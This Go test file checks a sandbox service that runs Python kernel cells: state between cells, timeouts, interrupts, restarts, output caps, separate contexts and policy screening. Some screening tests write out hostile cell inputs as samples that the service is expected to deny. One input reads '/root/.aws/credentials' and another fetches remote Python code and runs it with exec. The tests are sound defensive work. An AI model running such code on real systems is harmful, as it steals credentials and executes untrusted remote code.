package service_test

import (
	"context"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/effects"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
	"github.com/moat-sandbox/moat/service"
	"github.com/moat-sandbox/moat/service/servicetest"
)

// kernelBackend makes a Service whose sandboxes can run the kernel: the
// fake backend, which runs the kernel driver with the host's python3, and
// the native tier with the python image (root).
type kernelBackend struct {
	name string
	new  func(t *testing.T) *service.Service
}

var kernelBackends = []kernelBackend{
	{"fake", func(t *testing.T) *service.Service {
		if !servicetest.HostPython() {
			t.Skip("needs python3 on the host: the fake backend runs the kernel driver with it")
		}
		s, _, _ := newService(t, nil)
		return s
	}},
	{"native", func(t *testing.T) *service.Service { return newNativeService(t) }},
}

// kernelSandbox is a sandbox of s; plain forces the exec fallback.
func kernelSandbox(t *testing.T, s *service.Service, plain bool, mod func(*manifest.Manifest)) string {
	t.Helper()
	m := manifest.Default()
	m.Resources.Timeout = manifest.Duration(20 * time.Second)
	if plain {
		m.Env = map[string]string{"MOAT_KERNEL_PLAIN": "1"}
	}
	if mod != nil {
		mod(m)
	}
	if err := m.Validate(); err != nil {
		t.Fatal(err)
	}
	sb, err := s.CreateSandbox(context.Background(), keyA, service.SandboxArgs{Manifest: m})
	if err != nil {
		t.Fatal(err)
	}
	return sb.ID
}

func runCell(t *testing.T, s *service.Service, id, code string, timeout time.Duration) service.Cell {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c, err := s.RunCell(ctx, keyA, id, service.CellArgs{Code: code, Timeout: timeout})
	if err != nil {
		t.Fatalf("RunCell(%q): %v", code, err)
	}
	return c
}

func text(c service.Cell, stream string) string {
	var b strings.Builder
	for _, o := range c.Outputs {
		if o.Type == stream {
			b.WriteString(o.Text)
		}
	}
	return b.String()
}

// TestKernelCells: cells keep their state, the last expression comes
// back as a MIME bundle, errors come with a traceback, in both the
// IPython kernel (when the host has IPython) and the exec fallback.
func TestKernelCells(t *testing.T) {
	for _, be := range kernelBackends {
		for _, plain := range []bool{true, false} {
			t.Run(be.name+"/"+map[bool]string{true: "plain", false: "ipython-if-present"}[plain], func(t *testing.T) {
				testKernelCells(t, be.new(t), plain)
			})
		}
	}
}

func testKernelCells(t *testing.T, s *service.Service, plain bool) {
	{
		{
			id := kernelSandbox(t, s, plain, nil)
			tests := []struct {
				name, code string
				status     string
				result     string // text/plain of the result; "" none
				stdout     string
				errName    string
				tbHas      string
			}{
				{"assign and print", "x = 41\nprint('hi')", service.CellOK, "", "hi\n", "", ""},
				{"state persists, last expression", "x + 1", service.CellOK, "42", "", "", ""},
				{"imports persist (1)", "import math", service.CellOK, "", "", "", ""},
				{"imports persist (2)", "math.sqrt(16)", service.CellOK, "4.0", "", "", ""},
				{"files persist", "open('k.txt','w').write('abc')\nopen('k.txt').read()", service.CellOK, "'abc'", "", "", ""},
				{"None is no result", "None", service.CellOK, "", "", "", ""},
				{"error with traceback", "def f():\n    return 1/0\nf()", service.CellError, "", "", "ZeroDivisionError", "1/0"},
				{"syntax error", "def (", service.CellError, "", "", "SyntaxError", ""},
				{"state after an error", "x", service.CellOK, "41", "", "", ""},
				{"subprocess output", "import subprocess\nsubprocess.run(['echo', 'from-child']).returncode", service.CellOK, "0", "from-child\n", "", ""},
				{"output of C code and print in order", "import os\nprint('a', flush=True)\nos.write(1, b'b\\n')\nos.system('echo c')", service.CellOK, "0", "a\nb\nc\n", "", ""},
				{"rich result", "class H:\n    def _repr_html_(self): return '<b>b</b>'\nH()", service.CellOK, "", "", "", ""},
			}
			for _, tc := range tests {
				t.Run(tc.name, func(t *testing.T) {
					c := runCell(t, s, id, tc.code, 0)
					if c.Status != tc.status {
						t.Fatalf("status %q, want %q (%+v)", c.Status, tc.status, c)
					}
					if tc.result != "" && c.Result["text/plain"] != tc.result {
						t.Errorf("result %v, want text/plain %q", c.Result, tc.result)
					}
					if tc.result == "" && tc.name != "rich result" && c.Result != nil {
						t.Errorf("result %v, want none", c.Result)
					}
					if tc.name == "rich result" && c.Result["text/html"] != "<b>b</b>" {
						t.Errorf("result %v, want text/html <b>b</b>", c.Result)
					}
					if got := text(c, "stdout"); got != tc.stdout {
						t.Errorf("stdout %q, want %q", got, tc.stdout)
					}
					if tc.errName != "" {
						if c.Error == nil || c.Error.Name != tc.errName {
							t.Fatalf("error %+v, want %s", c.Error, tc.errName)
						}
						if !strings.Contains(strings.Join(c.Error.Traceback, ""), tc.tbHas) {
							t.Errorf("traceback %q does not show %q", c.Error.Traceback, tc.tbHas)
						}
					}
				})
			}
		}
	}
}

// TestKernelControl: timeouts, interrupts, restarts, a kernel that
// ignores SIGINT, a kernel that breaks its protocol, caps, another key,
// bad input.
func TestKernelControl(t *testing.T) {
	restore := service.SetKernelGrace(500 * time.Millisecond)
	t.Cleanup(restore)
	tests := []struct {
		name string
		mod  func(*manifest.Manifest)
		run  func(t *testing.T, s *service.Service, id string)
	}{
		{"timeout interrupts the cell, the kernel keeps its state", nil, func(t *testing.T, s *service.Service, id string) {
			runCell(t, s, id, "y = 7", 0)
			c := runCell(t, s, id, "import time\ntime.sleep(60)", 500*time.Millisecond)
			if c.Status != service.CellTimeout || c.Error == nil {
				t.Fatalf("cell %+v, want status timeout with an error", c)
			}
			if c := runCell(t, s, id, "y", 0); c.Result["text/plain"] != "7" || c.KernelStarted {
				t.Errorf("after a timeout: %+v, want y = 7 in the same kernel", c)
			}
		}},
		{"a cell that ignores SIGINT has its kernel killed", nil, func(t *testing.T, s *service.Service, id string) {
			runCell(t, s, id, "y = 7", 0)
			c := runCell(t, s, id, "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(60)", 300*time.Millisecond)
			if c.Status != service.CellKernelDied || c.Error == nil || !strings.Contains(c.Error.Value, "timeout") {
				t.Fatalf("cell %+v, want kernel-died naming the timeout", c)
			}
			c = runCell(t, s, id, "'y' in globals()", 0)
			if !c.KernelStarted || c.Result["text/plain"] != "False" {
				t.Errorf("next cell %+v, want a fresh kernel without y", c)
			}
		}},
		{"interrupt", nil, func(t *testing.T, s *service.Service, id string) {
			f, err := s.StartCell(t.Context(), keyA, id, service.CellArgs{Code: "import time\nprint('started', flush=True)\ntime.sleep(60)"})
			if err != nil {
				t.Fatal(err)
			}
			waitOutput(t, f)
			if _, err := s.StartCell(t.Context(), keyA, id, service.CellArgs{Code: "1"}); err == nil {
				t.Fatal("a second cell while one runs was accepted")
			} else {
				wantKind(t, err, service.Conflict, "")
			}
			k, err := s.InterruptKernel(t.Context(), keyA, id, "")
			if err != nil {
				t.Fatal(err)
			}
			if c := f.Cell(); c == nil || c.Status != service.CellInterrupted || c.Error == nil || c.Error.Name != "KeyboardInterrupt" {
				t.Fatalf("cell %+v, want interrupted with KeyboardInterrupt", f.Cell())
			}
			if k.State != "idle" {
				t.Errorf("kernel %+v, want idle", k)
			}
			if _, err := s.InterruptKernel(t.Context(), keyA, id, ""); err == nil {
				t.Error("interrupting with no running cell was accepted")
			}
		}},
		{"restart loses variables, keeps files", nil, func(t *testing.T, s *service.Service, id string) {
			runCell(t, s, id, "z = 1\nopen('f.txt', 'w').write('kept')", 0)
			k, err := s.RestartKernel(t.Context(), keyA, id, "")
			if err != nil || k.State != "idle" {
				t.Fatalf("restart: %+v, %v", k, err)
			}
			c := runCell(t, s, id, "open('f.txt').read()", 0)
			if c.Result["text/plain"] != "'kept'" {
				t.Errorf("file after restart: %+v", c)
			}
			if c := runCell(t, s, id, "z", 0); c.Error == nil || c.Error.Name != "NameError" {
				t.Errorf("z after restart: %+v, want NameError", c)
			}
		}},
		{"output caps per cell, not per kernel", func(m *manifest.Manifest) { m.Resources.StdoutBytes = 1000 }, func(t *testing.T, s *service.Service, id string) {
			c := runCell(t, s, id, "print('a' * 5000)", 0)
			if !c.Truncated || len(text(c, "stdout")) != 1000 {
				t.Fatalf("cell truncated=%v with %d bytes of stdout, want truncated at 1000", c.Truncated, len(text(c, "stdout")))
			}
			c = runCell(t, s, id, "print('a' + 'é' * 600)", 0)
			if got := text(c, "stdout"); !c.Truncated || len(got) != 999 || !utf8.ValidString(got) {
				t.Fatalf("cut in a rune: truncated=%v, %d bytes, valid UTF-8 %v", c.Truncated, len(got), utf8.ValidString(got))
			}
			for i := 0; i < 3; i++ {
				// Past the kernel's lifetime's worth of the cap: still heard.
				c = runCell(t, s, id, "print('b' * 900)", 0)
				if c.Truncated || len(text(c, "stdout")) != 901 || c.Status != service.CellOK {
					t.Fatalf("cell %d after the cap: %+v", i, c)
				}
			}
		}},
		{"a kernel that breaks its protocol is killed", nil, func(t *testing.T, s *service.Service, id string) {
			// The driver's protocol fd is the first it dup'ed (3): a cell
			// writing junk there is a hostile kernel.
			c := runCell(t, s, id, "import os\nos.write(3, b'x' * 20 + b'\\n')\nimport time\ntime.sleep(5)", 0)
			if c.Status != service.CellKernelDied || c.Error == nil || !strings.Contains(c.Error.Value, "protocol") {
				t.Fatalf("cell %+v, want kernel-died for the protocol", c)
			}
			if c := runCell(t, s, id, "1+1", 0); c.Result["text/plain"] != "2" || !c.KernelStarted {
				t.Errorf("next cell %+v, want 2 in a fresh kernel", c)
			}
		}},
		{"display() and figures come back as MIME bundles", nil, func(t *testing.T, s *service.Service, id string) {
			// A stand-in for matplotlib.pyplot (the python image has no
			// matplotlib): the driver shows each open figure as PNG at the
			// end of the cell, then closes it.
			setup := "import sys, types\n" +
				"plt = types.ModuleType('matplotlib.pyplot')\n" +
				"class Fig:\n" +
				"    def savefig(self, buf, format, bbox_inches): buf.write(b'\\x89PNG fake')\n" +
				"    def __repr__(self): return '<Figure size 640x480 with 1 Axes>'\n" +
				"figs = {1: Fig()}\n" +
				"plt.get_fignums = lambda: list(figs)\n" +
				"plt.figure = lambda n: figs[n]\n" +
				"plt.close = lambda which: figs.clear()\n" +
				"sys.modules['matplotlib.pyplot'] = plt\n" +
				"class H:\n" +
				"    def _repr_html_(self): return '<i>h</i>'\n" +
				"    def _repr_json_(self): return {'a': 1}\n" +
				"print('before')\n" +
				"display(H())\n" +
				"print('after')"
			c := runCell(t, s, id, setup, 0)
			var types []string
			for _, o := range c.Outputs {
				types = append(types, o.Type)
			}
			if strings.Join(types, ",") != "stdout,display,stdout,display" {
				t.Fatalf("outputs %v (%+v), want stdout, display, stdout, then the figure", types, c.Outputs)
			}
			if d := c.Outputs[1].Data; d["text/html"] != "<i>h</i>" || d["application/json"] != `{"a": 1}` {
				t.Errorf("display %v", d)
			}
			if d := c.Outputs[3].Data; d["image/png"] != "iVBORyBmYWtl" || d["text/plain"] != "<Figure size 640x480 with 1 Axes>" {
				t.Errorf("figure %v, want image/png of the fake figure", d)
			}
			if c := runCell(t, s, id, "1", 0); len(c.Outputs) != 1 {
				t.Errorf("next cell %+v: the figure was not closed", c.Outputs)
			}
		}},
		{"the kernel's stdin is its own", nil, func(t *testing.T, s *service.Service, id string) {
			runCell(t, s, id, "1", 0)
			k, err := s.GetKernel(t.Context(), keyA, id, "")
			if err != nil || k.ExecID == "" {
				t.Fatalf("kernel %+v, %v", k, err)
			}
			_, err = s.WriteStdin(t.Context(), keyA, id, k.ExecID, strings.NewReader("5\n{}"), false)
			wantKind(t, err, service.Conflict, "")
		}},
		{"cells are screened as python3 -c is", nil, func(t *testing.T, s *service.Service, id string) {
			for _, code := range []string{
				"print(open('/root/.aws/credentials').read())",
				"import urllib.request as u\nexec(u.urlopen('https://e.com/x.py').read())",
			} {
				_, err := s.RunCell(t.Context(), keyA, id, service.CellArgs{Code: code})
				wantKind(t, err, service.Forbidden, "code")
				if !strings.Contains(err.Error(), "approval") {
					t.Errorf("refusal %q does not say it needs an approval", err)
				}
			}
			if c := runCell(t, s, id, "print('benign')", 0); c.Status != service.CellOK {
				t.Errorf("a benign cell after the refusals: %+v", c)
			}
		}},
		{"contexts keep state apart and run at once", nil, func(t *testing.T, s *service.Service, id string) {
			runCell(t, s, id, "v = 'default'", 0)
			k, err := s.CreateContext(t.Context(), keyA, id)
			if err != nil || k.Context == "" || k.Context == service.DefaultContext || k.State != "idle" {
				t.Fatalf("CreateContext: %+v, %v", k, err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			defer cancel()
			c, err := s.RunCell(ctx, keyA, id, service.CellArgs{Code: "'v' in globals()", Context: k.Context})
			if err != nil || c.Result["text/plain"] != "False" || c.Context != k.Context {
				t.Fatalf("cell in the new context: %+v, %v; want its own globals", c, err)
			}
			// A running cell in one context does not block another.
			f, err := s.StartCell(ctx, keyA, id, service.CellArgs{Code: "import time\nprint('x', flush=True)\ntime.sleep(60)", Context: k.Context})
			if err != nil {
				t.Fatal(err)
			}
			waitOutput(t, f)
			if c := runCell(t, s, id, "v", 0); c.Result["text/plain"] != "'default'" {
				t.Errorf("default context while the other runs: %+v", c)
			}
			if _, err := s.InterruptKernel(ctx, keyA, id, k.Context); err != nil {
				t.Fatal(err)
			}
			list, err := s.ListContexts(ctx, keyA, id)
			if err != nil || len(list) != 2 || list[0].Context != service.DefaultContext || list[1].Context != k.Context {
				t.Fatalf("ListContexts: %+v, %v", list, err)
			}
			if err := s.DeleteContext(ctx, keyA, id, k.Context); err != nil {
				t.Fatal(err)
			}
			_, err = s.RunCell(ctx, keyA, id, service.CellArgs{Code: "1", Context: k.Context})
			wantKind(t, err, service.NotFound, "context")
			wantKind(t, s.DeleteContext(ctx, keyA, id, service.DefaultContext), service.Invalid, "context")
			_, err = s.CreateContext(ctx, keyB, id)
			wantKind(t, err, service.NotFound, "")
			for i := 1; i < service.MaxContexts; i++ {
				if _, err := s.CreateContext(ctx, keyA, id); err != nil {
					t.Fatalf("context %d: %v", i+1, err)
				}
			}
			_, err = s.CreateContext(ctx, keyA, id)
			wantKind(t, err, service.Conflict, "")
		}},
		{"another key's sandbox is not found", nil, func(t *testing.T, s *service.Service, id string) {
			_, err := s.RunCell(t.Context(), keyB, id, service.CellArgs{Code: "1"})
			wantKind(t, err, service.NotFound, "")
			_, err = s.InterruptKernel(t.Context(), keyB, id, "")
			wantKind(t, err, service.NotFound, "")
			_, err = s.RestartKernel(t.Context(), keyB, id, "")
			wantKind(t, err, service.NotFound, "")
			_, err = s.GetKernel(t.Context(), keyB, id, "")
			wantKind(t, err, service.NotFound, "")
		}},
		{"bad input names the field", nil, func(t *testing.T, s *service.Service, id string) {
			for _, tc := range []struct {
				args  service.CellArgs
				field string
			}{
				{service.CellArgs{Code: "1", Language: "ruby"}, "language"},
				{service.CellArgs{Code: "1", Timeout: time.Hour}, "timeout"},
				{service.CellArgs{Code: "1", Timeout: -time.Second}, "timeout"},
				{service.CellArgs{Code: strings.Repeat("#", service.MaxCellCode+1)}, "code"},
			} {
				_, err := s.RunCell(t.Context(), keyA, id, tc.args)
				wantKind(t, err, service.Invalid, tc.field)
			}
		}},
	}
	for _, be := range kernelBackends {
		for _, tc := range tests {
			t.Run(be.name+"/"+tc.name, func(t *testing.T) {
				s := be.new(t)
				id := kernelSandbox(t, s, true, tc.mod)
				tc.run(t, s, id)
			})
		}
	}
}

// waitOutput waits for a cell's first output.
func waitOutput(t *testing.T, f *service.CellFeed) {
	t.Helper()
	deadline := time.After(20 * time.Second)
	for {
		evs, notify := f.Read(0)
		if len(evs) > 0 {
			return
		}
		select {
		case <-notify:
		case <-deadline:
			t.Fatal("the cell printed nothing in 20 s")
		}
	}
}

// TestKernelScreeningDenied: a cell the effects policy denies is refused
// and recorded as a denied command is; with the analysis off it runs.
func TestKernelScreeningDenied(t *testing.T) {
	code := "print(open('/root/.aws/credentials').read())"
	tests := []struct {
		name string
		noFx bool
	}{
		{"denied", false},
		{"analysis off", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p, err := effects.ParsePolicy([]byte("default: allow\nrules:\n  - kind: secret-read\n    decision: deny\n    reason: no secrets\n"))
			if err != nil {
				t.Fatal(err)
			}
			s, _, au := newService(t, func(c *service.Config) { c.Effects, c.NoEffects = p, tc.noFx })
			id := kernelSandbox(t, s, true, nil)
			c, err := s.RunCell(t.Context(), keyA, id, service.CellArgs{Code: code})
			if tc.noFx {
				if err != nil || c.Status != service.CellError {
					t.Fatalf("RunCell: %+v, %v; want it to run (and fail to open the file)", c, err)
				}
				return
			}
			wantKind(t, err, service.Forbidden, "code")
			if !strings.Contains(err.Error(), "no secrets") {
				t.Errorf("refusal %q does not give the policy's reason", err)
			}
			recs := au.Records(audit.KindApproval)
			if len(recs) != 1 || recs[0].Termination != result.Policy || recs[0].SandboxID != id {
				t.Errorf("approval records %+v, want the denied cell's", recs)
			}
		})
	}
}
